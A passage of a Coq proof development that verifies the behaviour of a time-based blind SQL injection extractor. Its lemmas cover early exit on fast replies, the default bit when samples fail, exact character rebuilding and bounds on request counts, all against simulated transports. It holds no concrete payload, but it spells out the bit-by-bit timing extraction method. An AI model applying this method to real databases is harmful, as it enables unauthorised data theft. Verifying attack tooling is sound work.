  (k <= n)%nat ->
  exists rest, range 1 (Z.of_nat n + 1) 1 =
               range 1 (Z.of_nat k + 1) 1 ++ rest.
Proof.
  intros Hk. rewrite !range_positions.
  replace n with (k + (n - k))%nat by lia.
  rewrite seq_app, map_app. eauto.
Qed.

Lemma range_bits : range 7 (-1) (-1) = [7; 6; 5; 4; 3; 2; 1; 0].
Proof. reflexivity. Qed.

Section Loops.
Context {S A B : Type}.

Lemma for_fold_app (xs ys : list A) (body : B -> A -> M S B) (acc : B)
    (w : World S) :
  for_fold (xs ++ ys) body acc w =
  match for_fold xs body acc w with
  | (Ok acc', w') => for_fold ys body acc' w'
  | (Raise e, w') => (Raise e, w')
  end.
Proof.
  revert acc w. induction xs as [|x xs IH]; intros acc w; [done|].
  cbn [app for_fold]. unfold bind.
  destruct (body acc x w) as [[acc'|e] w']; [apply IH|done].
Qed.

Lemma for_fold_snoc (xs : list A) (x : A) (body : B -> A -> M S B)
    (acc acc' : B) (w w' : World S) :
  for_fold xs body acc w = (Ok acc', w') ->
  for_fold (xs ++ [x]) body acc w = body acc' x w'.
Proof.
  intros H. rewrite for_fold_app, H. cbn. unfold bind.
  by destruct (body acc' x w') as [[?|?] ?].
Qed.
End Loops.

(** ** One request after another *)

Section Sampling.
Context {S : Type} `{!Transport S}.
Variables (url : string) (inj : injection) (threshold : Q).

Lemma probe_eq (w : World S) :
  probe url inj w =
  (Ok (fst (post url inj (net w))), probed url inj 1 w).
Proof.
  unfold probe, probed. cbn. by destruct (post url inj (net w)).
Qed.

Lemma probed_probed (n m : nat) (w : World S) :
  probed url inj n (probed url inj m w) = probed url inj (m + n) w.
Proof.
  unfold probed. cbn. f_equal.
  - revert w. induction m as [|m IH]; intros w; [done|]. cbn.
    specialize (IH (mkWorld (snd (post url inj (net w))) [] ∅)).
    apply IH.
  - rewrite app_assoc, <- repeat_app. f_equal. f_equal. lia.
Qed.

Lemma replies_cons (n : nat) (s : S) :
  replies url inj (Datatypes.S n) s =
  fst (post url inj s) :: replies url inj n (snd (post url inj s)).
Proof. cbn. by destruct (post url inj s). Qed.

(** Either no answer is a conclusive fast one, or there is a first. *)
Lemma first_fast (rs : list (option Q)) :
  Forall (not_fast threshold) rs \/
  exists before r rest,
    rs = before ++ r :: rest /\ Forall (not_fast threshold) before /\
    fast_sample threshold r = true.
Proof.
  induction rs as [|r rs IH]; [by left|].
  destruct (fast_sample threshold r) eqn:E.
  - right. exists [], r, rs. by repeat split.
  - destruct IH as [IH|(before & r' & rest & -> & Hb & Hr)].
    + left. by constructor.
    + right. exists (r :: before), r', rest. repeat split; [|done].
      by constructor.
Qed.

Lemma sampling_step (x : Z) (xs : list Z) (w : World S) :
  sampling url inj threshold (x :: xs) w =
  if fast_sample threshold (fst (post url inj (net w)))
  then (Ok 0, probed url inj 1 w)
  else sampling url inj threshold xs (probed url inj 1 w).
Proof.
  unfold sampling at 1. cbn [for_return]. unfold bind at 1.
  unfold bind at 1. rewrite probe_eq.
  destruct (fst (post url inj (net w))) as [e|]; cbn [fast_sample]; [|done].
  by destruct (Qltb e threshold).
Qed.

(** The first conclusive fast answer settles the bit as 0, and the loop
    stops there. *)
Lemma sampling_fast (before rest : list (option Q)) (r : option Q)
    (xs : list Z) (w : World S) :
  replies url inj (length xs) (net w) = before ++ r :: rest ->
  Forall (not_fast threshold) before ->
  fast_sample threshold r = true ->
  sampling url inj threshold xs w =
  (Ok 0, probed url inj (Datatypes.S (length before)) w).
Proof.
  revert xs w. induction before as [|r0 before IH]; intros xs w Hrs Hb Hr.
  - destruct xs as [|x xs]; [done|]. cbn [length] in Hrs.
    rewrite replies_cons in Hrs. injection Hrs as Hhd _.
    rewrite sampling_step, Hhd, Hr. done.
  - destruct xs as [|x xs]; [done|]. cbn [length] in Hrs.
    rewrite replies_cons in Hrs. injection Hrs as Hhd Htl.
    apply Forall_cons in Hb as [Hr0 Hb].
    rewrite sampling_step, Hhd, Hr0.
    rewrite (IH xs (probed url inj 1 w)); [|exact Htl|done|done].
    by rewrite probed_probed.
Qed.

(** Without a conclusive fast answer every turn is taken and the bit is
    settled as 1. *)
Lemma sampling_slow (xs : list Z) (w : World S) :
  Forall (not_fast threshold) (replies url inj (length xs) (net w)) ->
  sampling url inj threshold xs w =
  (Ok 1, probed url inj (length xs) w).
Proof.
  revert w. induction xs as [|x xs IH]; intros w Hrs.
  - unfold sampling, probed. cbn. by destruct w.
  - cbn [length] in Hrs. rewrite replies_cons in Hrs.
    apply Forall_cons in Hrs as [Hr Hrs].
    rewrite sampling_step, Hr, IH; [|exact Hrs].
    by rewrite probed_probed.
Qed.

(** The loop always settles on a bit, whatever the channel does. *)
Lemma sampling_total (xs : list Z) (w : World S) :
  exists (b : Z) (n : nat),
    sampling url inj threshold xs w = (Ok b, probed url inj n w) /\
    (b = 0 \/ b = 1).
Proof.
  destruct (first_fast (replies url inj (length xs) (net w)))
    as [Hrs|(before & r & rest & Hrs & Hb & Hr)].
  - exists 1, (length xs). split; [by apply sampling_slow|by right].
  - exists 0, (Datatypes.S (length before)).
    split; [by eapply sampling_fast|by left].
Qed.

End Sampling.

(** ** The bit decision *)

Section BitDecision.
Context {S : Type} `{!Transport S}.

Lemma extract_bit_sampling (self : BlindSQLInjection.t)
    (char_position bit_position num_samples : Z) :
  BlindSQLInjection._extract_bit self char_position bit_position
    num_samples =
  sampling (reset_url (BlindSQLInjection.server self))
    (BitTest char_position bit_position
       (BlindSQLInjection.delay_size self))
    (BlindSQLInjection.threshold self) (range 0 num_samples 1).
Proof. reflexivity. Qed.

Lemma verifier_extract_bit_sampling (self : ExtractionVerifier.t)
    (char_position bit_position num_samples : Z) :
  ExtractionVerifier._extract_bit self char_position bit_position
    num_samples =
  sampling (reset_url (ExtractionVerifier.server self))
    (BitTest char_position bit_position
       (ExtractionVerifier.delay_size self))
    (ExtractionVerifier.threshold self) (range 0 num_samples 1).
Proof. reflexivity. Qed.

Lemma sampling_early_exit (url : string) (inj : injection)
    (threshold : Q) (xs : list Z) :
  early_exit url inj threshold (length xs)
    (sampling url inj threshold xs).
Proof.
  intros w. split; [|split].
  - intros before r rest Hrs Hb Hr. by eapply sampling_fast.
  - intros r Hin Hr.
    destruct (first_fast threshold (replies url inj (length xs) (net w)))
      as [Hall|(before & r' & rest & Hrs & Hb & Hr')].
    + rewrite Forall_forall in Hall. specialize (Hall r Hin).
      unfold not_fast in Hall. congruence.
    + by rewrite (sampling_fast _ _ _ before rest r' xs w).
  - split.
    + intros Hone.
      destruct (first_fast threshold (replies url inj (length xs) (net w)))
        as [Hall|(before & r' & rest & Hrs & Hb & Hr')]; [done|].
      rewrite (sampling_fast _ _ _ before rest r' xs w) in Hone; done.
    + intros Hall. by rewrite sampling_slow.
Qed.

End BitDecision.

(** C2: a bit decision exits early on a fast answer.  For both
    [_extract_bit] methods and any sample count: at the first conclusive
    fast (below-threshold) answer the bit is decided 0 and no request is
    made after it, whatever the other samples are or would have been; one
    conclusive fast answer anywhere among the samples is enough for 0; and
    the bit is 1 only when no sample is a conclusive fast one. *)
Theorem extract_bit_early_exit {S : Type} `{!Transport S}
    (extractor : BlindSQLInjection.t) (verifier : ExtractionVerifier.t)
    (char_position bit_position num_samples : Z) :
  early_exit (reset_url (BlindSQLInjection.server extractor))
    (BitTest char_position bit_position
       (BlindSQLInjection.delay_size extractor))
    (BlindSQLInjection.threshold extractor) (Z.to_nat num_samples)
    (BlindSQLInjection._extract_bit extractor char_position bit_position
       num_samples) /\
  early_exit (reset_url (ExtractionVerifier.server verifier))
    (BitTest char_position bit_position
       (ExtractionVerifier.delay_size verifier))
    (ExtractionVerifier.threshold verifier) (Z.to_nat num_samples)
    (ExtractionVerifier._extract_bit verifier char_position bit_position
       num_samples).
Proof.
  rewrite extract_bit_sampling, verifier_extract_bit_sampling.
  rewrite <- (length_range_samples num_samples).
  split; apply sampling_early_exit.
Qed.

(** C2 at work: of the scripted answers slow, fast, slow the second one
    decides the bit, after two requests. *)
Lemma extract_bit_early_exit_witness :
  BlindSQLInjection._extract_bit (Transport0 := scripted)
    (BlindSQLInjection.__init__ "http://target" 60000000) 1 0 3
    (mkWorld [Some 1%Q; Some 0.125%Q; Some 1%Q] [] ∅) =
  (Ok 0, mkWorld [Some 1%Q] (repeat (BitTest 1 0 60000000) 2) ∅).
Proof.
  pose proof (extract_bit_early_exit (Transport0 := scripted)
    (BlindSQLInjection.__init__ "http://target" 60000000)
    (ExtractionVerifier.__init__ "http://target" 60000000) 1 0 3) as [H _].
  destruct (H (mkWorld [Some 1%Q; Some 0.125%Q; Some 1%Q] [] ∅)) as [H1 _].
  apply (H1 [Some 1%Q] (Some 0.125%Q) [Some 1%Q]).
  - reflexivity.
  - repeat constructor.
  - reflexivity.
Defined.

Lemma failures_not_fast (threshold : Q) (rs : list (option Q)) :
  Forall (fun r => r = None) rs -> Forall (not_fast threshold) rs.
Proof. intros H. eapply Forall_impl; [exact H|]. by intros r ->. Qed.

(** C8: a bit decision starved of conclusive samples is 1, not an error.
    For both [_extract_bit] methods, when every one of the samples is a
    channel failure the method raises nothing and returns 1 (after making
    all its requests). *)
Theorem starved_bit_is_one {S : Type} `{!Transport S}
    (extractor : BlindSQLInjection.t) (verifier : ExtractionVerifier.t)
    (char_position bit_position num_samples : Z) (w : World S) :
  (Forall (fun r => r = None)
     (replies (reset_url (BlindSQLInjection.server extractor))
        (BitTest char_position bit_position
           (BlindSQLInjection.delay_size extractor))
        (Z.to_nat num_samples) (net w)) ->
   BlindSQLInjection._extract_bit extractor char_position bit_position
     num_samples w =
   (Ok 1,
    probed (reset_url (BlindSQLInjection.server extractor))
      (BitTest char_position bit_position
         (BlindSQLInjection.delay_size extractor))
      (Z.to_nat num_samples) w)) /\
  (Forall (fun r => r = None)
     (replies (reset_url (ExtractionVerifier.server verifier))
        (BitTest char_position bit_position
           (ExtractionVerifier.delay_size verifier))
        (Z.to_nat num_samples) (net w)) ->
   ExtractionVerifier._extract_bit verifier char_position bit_position
     num_samples w =
   (Ok 1,
    probed (reset_url (ExtractionVerifier.server verifier))
      (BitTest char_position bit_position
         (ExtractionVerifier.delay_size verifier))
      (Z.to_nat num_samples) w)).
Proof.
  rewrite extract_bit_sampling, verifier_extract_bit_sampling.
  rewrite <- (length_range_samples num_samples).
  split; intros Hfail; apply sampling_slow;
    by apply failures_not_fast.
Qed.

(** C8 at work: three samples against a target that cannot be reached. *)
Lemma starved_bit_is_one_witness :
  BlindSQLInjection._extract_bit (Transport0 := unreachable)
    (BlindSQLInjection.__init__ "http://target" 60000000) 1 0 3
    (mkWorld tt [] ∅) =
  (Ok 1, mkWorld tt (repeat (BitTest 1 0 60000000) 3) ∅).
Proof.
  apply (proj1 (starved_bit_is_one (Transport0 := unreachable)
    (BlindSQLInjection.__init__ "http://target" 60000000)
    (ExtractionVerifier.__init__ "http://target" 60000000) 1 0 3
    (mkWorld tt [] ∅))).
  repeat constructor.
Defined.

(** ** Rebuilding a character *)

Lemma byte_of_ascii (b : Z) :
  0 <= b < 256 -> exists c : ascii, b = ord c.
Proof.
  intros Hb. exists (ascii_of_N (Z.to_N b)). unfold ord.
  rewrite N_ascii_embedding; lia.
Qed.

Lemma chr_ord (c : ascii) : chr (ord c) = Ok c.
Proof.
  unfold chr, ord.
  pose proof (N_ascii_bounded c) as Hc.
  replace ((0 <=? Z.of_N (N_of_ascii c)) && (Z.of_N (N_of_ascii c) <? 256))
    with true by (symmetry; apply andb_true_iff; split; lia).
  by rewrite N2Z.id, ascii_N_embedding.
Qed.

Lemma int_digits_of_ord (c : ascii) :
  int_base2 (join (digits_of (ord c))) = Ok (ord c).
Proof.
  destruct c as [[] [] [] [] [] [] [] []]; vm_compute; reflexivity.
Qed.

Lemma int_digits_of (b : Z) :
  0 <= b < 256 -> int_base2 (join (digits_of b)) = Ok b.
Proof.
  intros Hb. destruct (byte_of_ascii b Hb) as [c ->].
  apply int_digits_of_ord.
Qed.

(** Eight decided bits always make a character. *)
Lemma digits_make_a_character (b7 b6 b5 b4 b3 b2 b1 b0 : Z) :
  (b7 = 0 \/ b7 = 1) -> (b6 = 0 \/ b6 = 1) -> (b5 = 0 \/ b5 = 1) ->
  (b4 = 0 \/ b4 = 1) -> (b3 = 0 \/ b3 = 1) -> (b2 = 0 \/ b2 = 1) ->
  (b1 = 0 \/ b1 = 1) -> (b0 = 0 \/ b0 = 1) ->
  exists (code : Z) (c : ascii),
    int_base2 (join [str b7; str b6; str b5; str b4;
                     str b3; str b2; str b1; str b0]) = Ok code /\
    chr code = Ok c.
Proof.
  intros [-> | ->] [-> | ->] [-> | ->] [-> | ->]
         [-> | ->] [-> | ->] [-> | ->] [-> | ->];
    eexists; eexists; split; vm_compute; reflexivity.
Qed.

Ltac sampling_settles :=
  match goal with
  | |- context [sampling ?u ?i ?t ?xs ?w] =>
      let b := fresh "b" in
      let k := fresh "k" in
      let E := fresh "E" in
      let Hb := fresh "Hb" in
      destruct (sampling_total u i t xs w) as (b & k & E & Hb);
      rewrite E; cbv beta iota
  end.

Section Character.
Context {S : Type} `{!Transport S}.

Lemma extract_character_rebuilding (self : BlindSQLInjection.t)
    (position num_samples : Z) :
  BlindSQLInjection.extract_character self position num_samples =
  rebuilding (reset_url (BlindSQLInjection.server self))
    (BlindSQLInjection.delay_size self)
    (BlindSQLInjection.threshold self) position num_samples.
Proof. reflexivity. Qed.

Lemma verifier_extract_character_rebuilding (self : ExtractionVerifier.t)
    (position num_samples : Z) :
  ExtractionVerifier._extract_character self position num_samples =
  rebuilding (reset_url (ExtractionVerifier.server self))
    (ExtractionVerifier.delay_size self)
    (ExtractionVerifier.threshold self) position num_samples.
Proof. reflexivity. Qed.

(** Whatever the channel does, a character comes back and no file is
    touched. *)
Lemma rebuilding_total (url : string) (delay_size : Z) (threshold : Q)
    (position num_samples : Z) (w : World S) :
  exists (c : ascii) (w' : World S),
    rebuilding url delay_size threshold position num_samples w =
    (Ok c, w') /\
    files w' = files w.
Proof.
  unfold rebuilding. rewrite range_bits. cbn [comprehension].
  unfold bind, ret, lift.
  do 8 sampling_settles.
  destruct (digits_make_a_character b b0 b1 b2 b3 b4 b5 b6)
    as (code & c & -> & ->); try assumption.
  by exists c; eexists.
Qed.

Lemma extract_character_total (self : BlindSQLInjection.t)
    (position num_samples : Z) (w : World S) :
  exists (c : ascii) (w' : World S),
    BlindSQLInjection.extract_character self position num_samples w =
    (Ok c, w') /\
    files w' = files w.
Proof. rewrite extract_character_rebuilding. apply rebuilding_total. Qed.

Lemma verifier_extract_character_total (self : ExtractionVerifier.t)
    (position num_samples : Z) (w : World S) :
  exists (c : ascii) (w' : World S),
    ExtractionVerifier._extract_character self position num_samples w =
    (Ok c, w') /\
    files w' = files w.
Proof.
  rewrite verifier_extract_character_rebuilding. apply rebuilding_total.
Qed.

Variables (url : string) (delay_size : Z) (threshold : Q).
Variables (position b : Z).
Hypothesis truthful : answers_bits url delay_size threshold position b.

Lemma truthful_replies_set (bit : Z) (n : nat) (s : S) :
  0 <= bit < 8 -> Z.testbit b bit = true ->
  Forall (not_fast threshold)
    (replies url (BitTest position bit delay_size) n s).
Proof.
  intros Hbit Hset. revert s. induction n as [|n IH]; intros s.
  - constructor.
  - rewrite replies_cons. constructor; [|apply IH].
    destruct (truthful s bit Hbit) as (e & -> & He).
    unfold not_fast. cbn. by rewrite He, Hset.
Qed.

(** On a truthful channel one bit decision returns the bit asked for. *)
Lemma sampling_truthful (bit : Z) (xs : list Z) (w : World S) :
  0 <= bit < 8 -> xs <> [] ->
  sampling url (BitTest position bit delay_size) threshold xs w =
  (Ok (Z.b2z (Z.testbit b bit)),
   probed url (BitTest position bit delay_size)
     (if Z.testbit b bit then length xs else 1%nat) w).
Proof.
  intros Hbit Hxs. destruct (Z.testbit b bit) eqn:Hb.
  - apply sampling_slow. by apply truthful_replies_set.
  - destruct xs as [|x xs]; [done|].
    rewrite sampling_step.
    destruct (truthful (net w) bit Hbit) as (e & -> & He).
    cbn [fast_sample]. by rewrite He, Hb.
Qed.

Lemma rebuilding_truthful (num_samples : Z) (w : World S) :
  0 <= b < 256 -> 0 < num_samples ->
  exists (c : ascii) (w' : World S),
    chr b = Ok c /\
    rebuilding url delay_size threshold position num_samples w =
    (Ok c, w') /\
    sent w' =
    requests_for_byte position delay_size b num_samples ++ sent w /\
    files w' = files w.
Proof.
  intros Hb Hn.
  assert (Hxs : range 0 num_samples 1 <> []).
  { intros E. apply (f_equal length) in E.
    rewrite length_range_samples in E. cbn in E. lia. }
  destruct (byte_of_ascii b Hb) as [c Hc].
  exists c. eexists. split; [by rewrite Hc, chr_ord|].
  unfold rebuilding. rewrite range_bits. cbn [comprehension].
  unfold bind, ret, lift.
  rewrite !sampling_truthful by (done || lia). cbv beta iota.
  change [str (Z.b2z (Z.testbit b 7)); str (Z.b2z (Z.testbit b 6));
          str (Z.b2z (Z.testbit b 5)); str (Z.b2z (Z.testbit b 4));
          str (Z.b2z (Z.testbit b 3)); str (Z.b2z (Z.testbit b 2));
          str (Z.b2z (Z.testbit b 1)); str (Z.b2z (Z.testbit b 0))]
    with (digits_of b).
  rewrite (int_digits_of b Hb). cbv beta iota.
  rewrite Hc at 1. rewrite chr_ord. cbv beta iota.
  split; [reflexivity|]. split; [|reflexivity].
  unfold requests_for_byte. cbn [flat_map sent probed].
  rewrite length_range_samples, app_nil_r, <- !app_assoc. reflexivity.
Qed.

End Character.

(** The simulated target is a truthful channel for each character of its
    key, as long as [fast] is below the threshold and [slow] is not. *)
Lemma noise_free_answers_bits (key : string) (fast slow threshold : Q)
    (url : string) (delay_size position : Z) (c : ascii) :
  (fast < threshold)%Q -> (threshold <= slow)%Q ->
  unicode_substr key position = Some (ord c) ->
  answers_bits (Transport0 := noise_free key fast slow)
    url delay_size threshold position (ord c).
Proof.
  intros Hfast Hslow Hc s bit Hbit.
  unfold post, noise_free. cbn [fst holds]. rewrite Hc.
  eexists. split; [reflexivity|].
  destruct (Z.testbit (ord c) bit); cbn [negb].
  - by apply Qltb_ge.
  - by apply Qltb_lt.
Qed.

(** C1: a character is rebuilt exactly from a truthful oracle.  For every
    byte value [b] in 0..255 and a channel without noise or failures that
    answers each bit question of [position] by the bits of [b], both
    [extract_character] and the verifier's [_extract_character] (with at
    least one sample per bit) return [chr b]; the requests made are the bit
    questions for bit 7 down to bit 0, in that order. *)
Theorem character_from_truthful_oracle {S : Type} `{!Transport S}
    (extractor : BlindSQLInjection.t) (verifier : ExtractionVerifier.t)
    (position num_samples b : Z) (w : World S) :
  0 <= b < 256 ->
  0 < num_samples ->
  (answers_bits (reset_url (BlindSQLInjection.server extractor))
     (BlindSQLInjection.delay_size extractor)
     (BlindSQLInjection.threshold extractor) position b ->
   exists (c : ascii) (w' : World S),
     chr b = Ok c /\
     BlindSQLInjection.extract_character extractor position num_samples w =
     (Ok c, w') /\
     sent w' =
     requests_for_byte position (BlindSQLInjection.delay_size extractor)
       b num_samples ++ sent w /\
     files w' = files w) /\
  (answers_bits (reset_url (ExtractionVerifier.server verifier))
     (ExtractionVerifier.delay_size verifier)
     (ExtractionVerifier.threshold verifier) position b ->
   exists (c : ascii) (w' : World S),
     chr b = Ok c /\
     ExtractionVerifier._extract_character verifier position num_samples w =
     (Ok c, w') /\
     sent w' =
     requests_for_byte position (ExtractionVerifier.delay_size verifier)
       b num_samples ++ sent w /\
     files w' = files w).
Proof.
  intros Hb Hn.
  rewrite extract_character_rebuilding,
    verifier_extract_character_rebuilding.
  split; intros Htruth; by apply rebuilding_truthful.
Qed.

(** C1 at work: the byte 65 behind the simulated target with key ["A"],
    three samples per bit. *)
Lemma character_from_truthful_oracle_witness :
  exists (c : ascii) (w' : World unit),
    chr 65 = Ok c /\
    BlindSQLInjection.extract_character
      (Transport0 := noise_free "A" 0.25 1)
      (BlindSQLInjection.__init__ "http://target" 60000000) 1 3
      (mkWorld tt [] ∅) = (Ok c, w') /\
    sent w' = requests_for_byte 1 60000000 65 3 ++ [] /\
    files w' = ∅.
Proof.
  apply (proj1 (character_from_truthful_oracle
    (Transport0 := noise_free "A" 0.25 1)
    (BlindSQLInjection.__init__ "http://target" 60000000)
    (ExtractionVerifier.__init__ "http://target" 60000000) 1 3 65
    (mkWorld tt [] ∅) ltac:(lia) ltac:(lia))).
  apply (noise_free_answers_bits "A" 0.25 1 float_0_42 _ _ 1 "A");
    [reflexivity | discriminate | reflexivity].
Defined.

(** ** Strings *)

Lemma append_cons (c : ascii) (a b : string) :
  String c a +:+ b = String c (a +:+ b).
Proof. reflexivity. Qed.

Lemma append_empty_l (a : string) : EmptyString +:+ a = a.
Proof. reflexivity. Qed.

Lemma length_append (a b : string) :
  String.length (a +:+ b) = (String.length a + String.length b)%nat.
Proof.
  induction a as [|c a IH]; [done|].
  rewrite append_cons. cbn [String.length]. by rewrite IH.
Qed.

Lemma append_assoc (a b c : string) : (a +:+ b) +:+ c = a +:+ (b +:+ c).
Proof.
  induction a as [|x a IH]; [done|]. by rewrite !append_cons, IH.
Qed.

Lemma append_empty_r (a : string) : a +:+ EmptyString = a.
Proof.
  induction a as [|x a IH]; [done|]. by rewrite append_cons, IH.
Qed.

Lemma substring_prefix (a b : string) :
  substring 0 (String.length a) (a +:+ b) = a.
Proof.
  induction a as [|c a IH].
  - rewrite append_empty_l. by destruct b.
  - rewrite append_cons. cbn [String.length substring]. by rewrite IH.
Qed.

Lemma substring_within (a b : string) (n : nat) :
  (n <= String.length a)%nat ->
  substring 0 n (a +:+ b) = substring 0 n a.
Proof.
  revert n. induction a as [|c a IH]; intros n Hn.
  - cbn in Hn. replace n with 0%nat by lia.
    rewrite append_empty_l. by destruct b.
  - rewrite append_cons. destruct n as [|n]; [done|].
    cbn [substring]. rewrite IH; [done|]. cbn in Hn. lia.
Qed.

Lemma substring_whole (a : string) :
  substring 0 (String.length a) a = a.
Proof.
  rewrite <- (append_empty_r a) at 2. apply substring_prefix.
Qed.

(** ** Checking one character *)

Section Matching.
Context {S : Type} `{!Transport S}.
Variables (url : string) (inj : injection) (threshold : Q).

Lemma retrying_step (x : Z) (xs : list Z) (w : World S) :
  retrying url inj threshold (x :: xs) w =
  if fast_sample threshold (fst (post url inj (net w)))
  then (Ok true, probed url inj 1 w)
  else retrying url inj threshold xs (probed url inj 1 w).
Proof.
  unfold retrying at 1. cbn [for_return]. unfold bind at 1.
  unfold bind at 1. rewrite probe_eq.
  destruct (fst (post url inj (net w))) as [e|]; cbn [fast_sample]; [|done].
  by destruct (Qltb e threshold).
Qed.

(** A conclusive fast retry ends the retries with "matches". *)
Lemma retrying_fast (before rest : list (option Q)) (r : option Q)
    (xs : list Z) (w : World S) :
  replies url inj (length xs) (net w) = before ++ r :: rest ->
  Forall (not_fast threshold) before ->
  fast_sample threshold r = true ->
  retrying url inj threshold xs w =
  (Ok true, probed url inj (Datatypes.S (length before)) w).
Proof.
  revert xs w. induction before as [|r0 before IH]; intros xs w Hrs Hb Hr.
  - destruct xs as [|x xs]; [done|]. cbn [length] in Hrs.
    rewrite replies_cons in Hrs. injection Hrs as Hhd _.
    rewrite retrying_step, Hhd, Hr. done.
  - destruct xs as [|x xs]; [done|]. cbn [length] in Hrs.
    rewrite replies_cons in Hrs. injection Hrs as Hhd Htl.
    apply Forall_cons in Hb as [Hr0 Hb].
    rewrite retrying_step, Hhd, Hr0.
    rewrite (IH xs (probed url inj 1 w)); [|exact Htl|done|done].
    by rewrite probed_probed.
Qed.

(** Retries without a conclusive fast answer end with "mismatch". *)
Lemma retrying_slow (xs : list Z) (w : World S) :
  Forall (not_fast threshold) (replies url inj (length xs) (net w)) ->
  retrying url inj threshold xs w =
  (Ok false, probed url inj (length xs) w).
Proof.
  revert w. induction xs as [|x xs IH]; intros w Hrs.
  - unfold retrying, probed. cbn. by destruct w.
  - cbn [length] in Hrs. rewrite replies_cons in Hrs.
    apply Forall_cons in Hrs as [Hr Hrs].
    rewrite retrying_step, Hr, IH; [|exact Hrs].
    by rewrite probed_probed.
Qed.

Lemma retrying_total (xs : list Z) (w : World S) :
  exists (v : bool) (n : nat),
    retrying url inj threshold xs w = (Ok v, probed url inj n w).
Proof.
  destruct (first_fast threshold (replies url inj (length xs) (net w)))
    as [Hrs|(before & r & rest & Hrs & Hb & Hr)].
  - exists false, (length xs). by apply retrying_slow.
  - exists true, (Datatypes.S (length before)). by eapply retrying_fast.
Qed.

Lemma matching_step (x : Z) (xs : list Z) (w : World S) :
  matching url inj threshold (x :: xs) w =
  match fst (post url inj (net w)) with
  | Some elapsed =>
      if Qltb threshold elapsed
      then retrying url inj threshold (range 0 3 1) (probed url inj 1 w)
      else matching url inj threshold xs (probed url inj 1 w)
  | None => matching url inj threshold xs (probed url inj 1 w)
  end.
Proof.
  unfold matching at 1. cbn [for_return]. unfold bind at 1.
  unfold bind at 1. rewrite probe_eq.
  destruct (fst (post url inj (net w))) as [e|]; [|done].
  destruct (Qltb threshold e); [|done].
  unfold bind, ret.
  by destruct (retrying_total (range 0 3 1) (probed url inj 1 w))
    as (v & n & ->).
Qed.

(** The check always answers, and only makes requests. *)
Lemma matching_total (xs : list Z) (w : World S) :
  exists (v : bool) (n : nat),
    matching url inj threshold xs w = (Ok v, probed url inj n w).
Proof.
  revert w. induction xs as [|x xs IH]; intros w.
  - exists true, 0%nat. unfold matching, probed. cbn. by destruct w.
  - rewrite matching_step.
    assert (Hgo : exists v n,
               matching url inj threshold xs (probed url inj 1 w) =
               (Ok v, probed url inj n w)).
    { destruct (IH (probed url inj 1 w)) as (v & n & ->).
      rewrite probed_probed. eauto. }
    destruct (fst (post url inj (net w))) as [e|]; [|exact Hgo].
    destruct (Qltb threshold e); [|exact Hgo].
    destruct (retrying_total (range 0 3 1) (probed url inj 1 w))
      as (v & n & ->).
    rewrite probed_probed. eauto.
Qed.

(** The check with one sample, as [verify_and_correct] calls it, read
    off the four answers the channel has in store.  The first answer
    opens the retries only when it took longer than the threshold. *)
Lemma matching_once_accepts (x : Z) (w : World S) (r : option Q) :
  fst (post url inj (net w)) = r ->
  match r with
  | Some elapsed => Qltb threshold elapsed = false
  | None => True
  end ->
  matching url inj threshold [x] w = (Ok true, probed url inj 1 w).
Proof.
  intros Hr Hle. rewrite matching_step, Hr.
  destruct r as [e|]; [rewrite Hle|]; unfold matching; cbn; done.
Qed.

Lemma matching_once_retries (x : Z) (w : World S) (elapsed : Q)
    (retries : list (option Q)) :
  replies url inj 4 (net w) = Some elapsed :: retries ->
  (threshold < elapsed)%Q ->
  matching url inj threshold [x] w =
  retrying url inj threshold (range 0 3 1) (probed url inj 1 w) /\
  replies url inj 3 (net (probed url inj 1 w)) = retries.
Proof.
  intros Hrs Hslow. rewrite replies_cons in Hrs.
  injection Hrs as Hhd Htl. split; [|exact Htl].
  rewrite matching_step, Hhd.
  apply Qltb_lt in Hslow. by rewrite Hslow.
Qed.

End Matching.

(** ** How many requests *)

Lemma asked_refl {S : Type} (allowed : injection -> Prop) (w : World S) :
  asked allowed 0 0 w w.
Proof. exists []. repeat split; [constructor|cbn; lia..]. Qed.

Lemma asked_trans {S : Type} (allowed : injection -> Prop)
    (lo1 hi1 lo2 hi2 : nat) (w w1 w2 : World S) :
  asked allowed lo1 hi1 w w1 ->
  asked allowed lo2 hi2 w1 w2 ->
  asked allowed (lo1 + lo2) (hi1 + hi2) w w2.
Proof.
  intros (new1 & E1 & F1 & L1) (new2 & E2 & F2 & L2).
  exists (new2 ++ new1). split; [by rewrite E2, E1, app_assoc|].
  split; [by apply Forall_app|]. rewrite length_app. lia.
Qed.

Lemma asked_weaken {S : Type} (allowed allowed' : injection -> Prop)
    (lo hi lo' hi' : nat) (w w' : World S) :
  (forall inj, allowed inj -> allowed' inj) ->
  (lo' <= lo)%nat -> (hi <= hi')%nat ->
  asked allowed lo hi w w' -> asked allowed' lo' hi' w w'.
Proof.
  intros Himp Hlo Hhi (new & E & F & L). exists new.
  split; [exact E|]. split; [|lia].
  eapply Forall_impl; [exact F|exact Himp].
Qed.

Lemma asked_probed {S : Type} `{!Transport S} (url : string)
    (inj : injection) (n : nat) (w : World S) :
  asked (fun i => i = inj) n n w (probed url inj n w).
Proof.
  exists (repeat inj n). split; [reflexivity|]. split.
  - apply Forall_forall. intros i Hi. apply list_elem_of_In in Hi.
    by apply repeat_spec in Hi.
  - rewrite repeat_length. lia.
Qed.

Section Requests.
Context {S : Type} `{!Transport S}.
Variables (url : string) (inj : injection) (threshold : Q).

Lemma replies_length (n : nat) (s : S) :
  length (replies url inj n s) = n.
Proof.
  revert s. induction n as [|n IH]; intros s; [done|].
  rewrite replies_cons. cbn. by rewrite IH.
Qed.

(** A bit decision makes at least one request when it has a turn, never
    more than it has turns, and with no turn at all it answers 1. *)
Lemma sampling_bounded (xs : list Z) (w : World S) :
  exists (b : Z) (n : nat),
    sampling url inj threshold xs w = (Ok b, probed url inj n w) /\
    (b = 0 \/ b = 1) /\
    (n <= length xs)%nat /\
    (xs <> [] -> (1 <= n)%nat) /\
    (xs = [] -> b = 1).
Proof.
  destruct (first_fast threshold (replies url inj (length xs) (net w)))
    as [Hrs|(before & r & rest & Hrs & Hb & Hr)].
  - exists 1, (length xs). split; [by apply sampling_slow|].
    split; [by right|]. split; [lia|]. split; [|done].
    destruct xs; [done|cbn; lia].
  - exists 0, (Datatypes.S (length before)).
    split; [by eapply sampling_fast|]. split; [by left|].
    apply (f_equal length) in Hrs.
    rewrite replies_length, length_app in Hrs. cbn in Hrs.
    split; [lia|]. split; [lia|]. intros ->. cbn in Hrs. lia.
Qed.

(** The same for the check of a character: never more than three requests
    beyond its turns. *)
Lemma retrying_bounded (xs : list Z) (w : World S) :
  exists (v : bool) (n : nat),
    retrying url inj threshold xs w = (Ok v, probed url inj n w) /\
